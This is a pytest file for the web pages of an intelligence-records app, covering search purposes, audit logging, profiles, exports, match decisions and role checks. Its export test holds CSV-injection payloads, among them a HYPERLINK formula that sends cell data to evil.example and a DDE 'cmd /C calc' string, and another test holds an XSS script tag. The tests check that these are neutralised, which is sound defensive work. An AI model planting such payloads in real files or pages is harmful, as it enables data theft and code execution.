"""The HTML pages over the inline warehouse: roles, purpose, search, profile, network,
export, decisions, explanations, lists, admin and audit pages."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from toex.ops.audit import AuditQuery, search_entries
from toex.ops.db import OpsStore
from toex.ops.models import MatchDecision

from .conftest import TestClient, Users, make_app, session_for

M1, M2, M3 = "mention-000001", "mention-000002", "mention-000003"


@pytest.fixture
def analyst(client: TestClient, users: Users) -> str:
    """Log in a regional analyst who sees every force, handling code and marking."""
    users.org("regional", ["cambs", "essex", "norfolk"], "regional")
    return session_for(client, users.user("ann", "analyst", "regional"))


def _search(client: TestClient, token: str, **fields: str) -> str:
    r = client.post("/search", data={"csrf_token": token, **fields})
    return r.text


def _persons(html: str) -> list[str]:
    return re.findall(r'data-person="([^"]+)"', html)


def test_search_needs_a_purpose_and_a_criterion(client: TestClient, analyst: str) -> None:
    r = client.post("/search", data={"csrf_token": analyst, "name": "smith", "purpose": " "})
    assert r.status_code == 400
    assert "state the purpose of this search (5+ characters)" in r.text
    r = client.post("/search", data={"csrf_token": analyst, "purpose": "a fine purpose"})
    assert r.status_code == 400
    assert "give at least one of name, date of birth, phone, email, PNC ID or postcode" in r.text
    r = client.post(
        "/search", data={"csrf_token": analyst, "purpose": "a fine purpose", "dob": "31/02/1990"}
    )
    assert "date of birth &#39;31/02/1990&#39; is not a date (use YYYY-MM-DD)" in r.text


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"name": "Billy Smith"}, ["P1", "P3"]),  # nickname: WILLIAM, BILL, WILL records
        ({"name": "Bill Smyth"}, ["P1", "P3"]),  # spelling + nickname
        ({"name": "smith"}, ["P1", "P3"]),  # surname alone
        ({"name": "Jane"}, ["V1"]),  # forename alone
        ({"dob": "1990-05-01"}, ["P1"]),
        ({"dob": "01/05/1990", "name": "William Smith"}, ["P1"]),
        ({"phone": "07700 900001"}, ["A1", "P1"]),
        ({"email": "BILLY@example.org"}, ["P1"]),
        ({"pnc_id": "08/12345A"}, ["P1"]),
        ({"postcode": "cb12ab"}, ["P1"]),
        ({"postcode": "CB1"}, ["P1"]),
        ({"postcode": "NR1"}, ["P2"]),
    ],
)
def test_search_criteria(
    client: TestClient, analyst: str, fields: dict[str, str], expected: list[str]
) -> None:
    html = _search(client, analyst, purpose="op test search", **fields)
    assert sorted(_persons(html)) == expected


def test_search_is_audited_with_purpose_and_remembered(
    client: TestClient, analyst: str, store: OpsStore
) -> None:
    _search(client, analyst, purpose="Operation Alpha", name="Billy Smith")
    (entry,) = search_entries(store, AuditQuery(action="search"))
    assert (entry.username, entry.purpose, entry.target) == (
        "ann",
        "Operation Alpha",
        "name=Billy Smith",
    )
    assert entry.detail["results"] == 2 and entry.detail["criteria"] == ["name"]
    assert 'value="Operation Alpha"' in client.get("/search").text


def test_htmx_search_returns_the_results_fragment(client: TestClient, analyst: str) -> None:
    r = client.post(
        "/search",
        headers={"HX-Request": "true"},
        data={"csrf_token": analyst, "purpose": "op test", "name": "jane doe"},
    )
    assert r.text.lstrip().startswith('<div class="marking official">OFFICIAL</div>')
    assert "<html" not in r.text and _persons(r.text) == ["V1"]


def test_profile_asks_for_a_purpose_first(client: TestClient, analyst: str) -> None:
    r = client.get("/person/P1")
    assert "State your purpose" in r.text
    r = client.post(
        "/purpose", data={"csrf_token": analyst, "purpose": "tasking review", "next": "/person/P1"}
    )
    assert (r.status_code, r.headers["location"]) == (303, "/person/P1")
    assert 'id="person-name">WILLIAM SMITH<' in client.get("/person/P1").text


def test_profile_shows_everything_and_is_audited(
    client: TestClient, analyst: str, store: OpsStore
) -> None:
    _search(client, analyst, purpose="tasking review", name="smith")
    html = client.get("/person/P1").text
    assert re.findall(r'data-mention="([^"]+)"', html) == [M1, M2, M3]
    assert re.findall(r'class="tag force">([^<]+)<', html) == ["cambs", "essex", "norfolk"]
    assert 'id="marking-top">SECRET<' in html and 'id="page-marking">SECRET<' in html
    assert "run test-run" in html
    for ref in ("CAM/1", "ESX/2", "NFK/3"):
        assert ref in html
    assert '<a href="/person/V1">JANE DOE</a>' in html
    assert '<a href="/person/V2">AMY BROWN</a>' in html
    assert '<a href="/person/A1">TOM JONES</a>' in html
    assert "+447700900001" in html and "<svg" in html
    assert "No priority score available to you for this person." in html
    (view,) = search_entries(store, AuditQuery(action="view"))
    assert (view.target, view.purpose) == ("person P1", "tasking review")


def test_profile_escapes_record_text(client: TestClient, analyst: str) -> None:
    _search(client, analyst, purpose="markup test", name="markup test")
    html = client.get("/person/P4").text
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_unknown_person_is_404(client: TestClient, analyst: str) -> None:
    _search(client, analyst, purpose="tasking review", name="smith")
    r = client.get("/person/NOPE")
    assert r.status_code == 404 and "no person &#39;NOPE&#39;" in r.text


def test_export_csv_is_marked_and_audited(
    client: TestClient, analyst: str, store: OpsStore
) -> None:
    _search(client, analyst, purpose="export test", name="smith")
    r = client.get("/person/P1/export.csv")
    lines = r.text.splitlines()
    assert lines[0] == lines[-1] == "SECRET" == r.headers["x-classification"]
    assert lines[1].startswith("person_id,mention_id,")
    assert len(lines) == 6
    assert r.headers["content-disposition"] == 'attachment; filename="person-P1.csv"'
    (entry,) = search_entries(store, AuditQuery(action="export"))
    assert entry.detail["rows"] == 3 and entry.purpose == "export test"


def test_export_csv_neutralises_formulas(
    store: OpsStore, users: Users, mini_assessed_warehouse: Path
) -> None:
    """Record values a spreadsheet would run (``=``, ``+``, ``-``, ``@``) are written as
    text, with a leading quote; nothing else in the file changes."""
    users.org("regional", ["cambs", "essex", "norfolk"], "regional")
    uid = users.user("ann", "analyst", "regional")
    with TestClient(make_app(store, mini_assessed_warehouse), follow_redirects=False) as c:
        token = session_for(c, uid)
        c.post("/purpose", data={"csrf_token": token, "purpose": "export test"})
        r = c.get("/person/V3/export.csv")
    lines = r.text.splitlines()
    rows = {row["mention_id"]: row for row in csv.DictReader(io.StringIO("\n".join(lines[1:-1])))}
    assert (
        rows["mention-000011"]["address_raw"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    )
    assert rows["mention-000011"]["email"] == "'@evil.example"
    assert rows["mention-000012"]["address_raw"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows["mention-000012"]["cro_number"] == "'+1-1"
    assert rows["mention-000012"]["forename"] == "ROSE"
    assert lines[0] == lines[-1] == "OFFICIAL-SENSITIVE"
    for line in lines:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_network_page_and_expand(client: TestClient, analyst: str) -> None:
    _search(client, analyst, purpose="network test", name="smith")
    page = client.get("/network/P1").text
    assert sorted(set(_persons(page))) == ["A1", "P3", "V1", "V2"]
    assert 'href="/network/A1"' in page  # SVG nodes re-centre the chart
    frag = client.get("/network/A1/expand", headers={"HX-Request": "true"}).text
    assert "<html" not in frag and _persons(frag) == ["P1"]
    assert "phone" in frag


def test_explain_and_decision(client: TestClient, analyst: str, store: OpsStore) -> None:
    _search(client, analyst, purpose="decision test", name="smith")
    frag = client.get(f"/person/P1/explain?a={M1}&b={M2}").text
    assert "forename" in frag and "WILLIAM" in frag and "BILLY" in frag
    r = client.post(
        "/person/P1/decision",
        data={
            "csrf_token": analyst,
            "mention_a": M1,
            "mention_b": M2,
            "same": "not_same",
            "reason": "different fathers named",
        },
    )
    assert (r.status_code, r.headers["location"]) == (303, "/person/P1#decisions")
    with store.session() as s:
        (d,) = s.query(MatchDecision).all()
        assert (d.mention_a, d.mention_b, d.same, d.decided_by) == (M1, M2, False, "ann")
    assert "different fathers named" in client.get("/person/P1").text
    # Exactly one entry, written by the decision store in the decision's transaction, with
    # the user's organisation, client address and stated purpose.
    (entry,) = search_entries(store, AuditQuery(action="decision"))
    assert (entry.username, entry.organisation, entry.target, entry.purpose, entry.client) == (
        "ann",
        "regional",
        f"{M1}|{M2}",
        "decision test",
        "testclient",
    )
    assert entry.detail == {
        "person": "P1",
        "decision_id": d.id,
        "same": False,
        "mention_a": M1,
        "mention_b": M2,
        "reason": "different fathers named",
    }


def test_decision_on_a_hidden_mention_is_404(
    client: TestClient, users: Users, store: OpsStore
) -> None:
    users.org("force-cambs", ["cambs"])
    token = session_for(client, users.user("cam", "analyst", "force-cambs"))
    client.post("/purpose", data={"csrf_token": token, "purpose": "decision test"})
    r = client.post(
        "/person/P1/decision",
        data={
            "csrf_token": token,
            "mention_a": M1,
            "mention_b": M3,
            "same": "same",
            "reason": "looks the same",
        },
    )
    assert r.status_code == 404
    r = client.get(f"/person/P1/explain?a={M1}&b={M3}")
    assert r.status_code == 404
    with store.session() as s:
        assert s.query(MatchDecision).count() == 0


def test_suggestions_only_name_visible_records(client: TestClient, users: Users) -> None:
    users.org("force-cambs", ["cambs"])
    session_for(client, users.user("cam", "analyst", "force-cambs"))
    assert client.get("/search/suggest?name=smi").text.strip() == '<option value="WILLIAM SMITH">'
    assert client.get("/search/suggest?name=bil").text.strip() == ""


def test_lists_expand_and_explain_need_a_stated_purpose(
    client: TestClient, analyst: str, store: OpsStore
) -> None:
    """Like a profile, the lists ask for a purpose first; the fragments (network expansion,
    match explanation) answer 403 without one; once stated, each view is audited with it."""
    for path in ("/perpetrators?force=cambs", "/crossforce"):
        r = client.get(path)
        assert r.status_code == 200 and "State your purpose" in r.text, path
        assert f'name="next" value="{path}"' in r.text, path
    for path in ("/network/P1/expand", f"/person/P1/explain?a={M1}&b={M2}"):
        r = client.get(path, headers={"HX-Request": "true"})
        assert r.status_code == 403, path
        assert "state a purpose (run a search) before" in r.text, path
    assert search_entries(store, AuditQuery(action="view")) == []
    assert search_entries(store, AuditQuery(action="network")) == []
    client.post("/purpose", data={"csrf_token": analyst, "purpose": "weekly tasking"})
    for path in (
        "/perpetrators",
        "/crossforce",
        "/network/P1/expand",
        f"/person/P1/explain?a={M1}&b={M2}",
    ):
        assert client.get(path).status_code == 200, path
    entries = [
        *search_entries(store, AuditQuery(action="view")),
        *search_entries(store, AuditQuery(action="network")),
    ]
    assert len(entries) == 4 and {e.purpose for e in entries} == {"weekly tasking"}


def test_lists_degrade_when_stages_are_missing(client: TestClient, analyst: str) -> None:
    client.post("/purpose", data={"csrf_token": analyst, "purpose": "weekly tasking"})
    html = client.get("/perpetrators").text
    assert "not available in this snapshot (assess_perpetrator_priority is not available" in html
    html = client.get("/crossforce").text
    assert "1 person with records you may see from two or more forces" in html
    assert _persons(html) == [] and '<a href="/person/P1">WILLIAM SMITH</a>' in html


@pytest.mark.parametrize(
    ("role", "path", "status"),
    [
        ("partner", "/search", 403),
        ("admin", "/search", 403),
        ("partner", "/person/P1", 403),
        ("analyst", "/admin", 403),
        ("analyst", "/audit", 403),
        ("supervisor", "/audit", 200),
        ("admin", "/audit", 200),
        ("admin", "/admin", 200),
        ("supervisor", "/admin", 403),
        ("partner", "/crossforce", 403),
        ("partner", "/", 200),
    ],
)
def test_roles(client: TestClient, users: Users, role: str, path: str, status: int) -> None:
    users.org("regional", ["cambs"], "regional")
    session_for(client, users.user("u", role, "regional"))
    r = client.get(path)
    assert r.status_code == status
    if status == 403:
        assert f"the {role} role may not" in r.text


def test_pages_redirect_to_login(client: TestClient) -> None:
    for path in ("/", "/search", "/person/P1", "/audit", "/admin"):
        r = client.get(path)
        assert (r.status_code, r.headers["location"]) == (303, f"/login?next={path}")


def test_admin_manages_organisations_agreements_users_and_tokens(
    client: TestClient, users: Users, store: OpsStore
) -> None:
    users.org("regional", ["cambs"], "regional")
    token = session_for(client, users.user("root", "admin", "regional"))
    r = client.post(
        "/admin/organisations",
        data={"csrf_token": token, "code": "force-essex", "name": "Essex", "kind": "force"},
    )
    assert "Organisation force-essex added." in r.text
    r = client.post(
        "/admin/agreements",
        data={"csrf_token": token, "organisation": "force-essex", "force": "essex"},
    )
    assert "force-essex may now see essex records." in r.text
    r = client.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "username": "newbie",
            "role": "analyst",
            "organisation": "force-essex",
            "clearance": "OFFICIAL",
            "handling_codes": "P",
        },
    )
    password = re.search(r'id="admin-secret">([^<]+)<', r.text).group(1)
    assert len(password) >= 20
    with store.session() as s:
        from toex.ops.accounts import authenticate_password

        assert authenticate_password(s, "newbie", password) is not None
    assert [e.target for e in search_entries(store, AuditQuery(action="admin"))] == [
        "user newbie",
        "agreement force-essex essex",
        "organisation force-essex",
    ]
    r = client.post("/admin/organisations", data={"csrf_token": token, "code": "x", "kind": "club"})
    assert r.status_code == 400 and "organisation kind must be one of" in r.text


def test_supervisor_audit_page_shows_only_their_organisation(
    client: TestClient, users: Users, store: OpsStore
) -> None:
    from toex.ops.audit import record

    users.org("regional", ["cambs"], "regional")
    users.org("other", ["essex"], "regional")
    record(store, username="ann", organisation="regional", action="search", purpose="ours")
    record(store, username="zed", organisation="other", action="search", purpose="theirs")
    session_for(client, users.user("sup", "supervisor", "regional"))
    html = client.get("/audit").text
    assert "ours" in html and "theirs" not in html
    assert 'id="page-marking">OFFICIAL-SENSITIVE<' in html
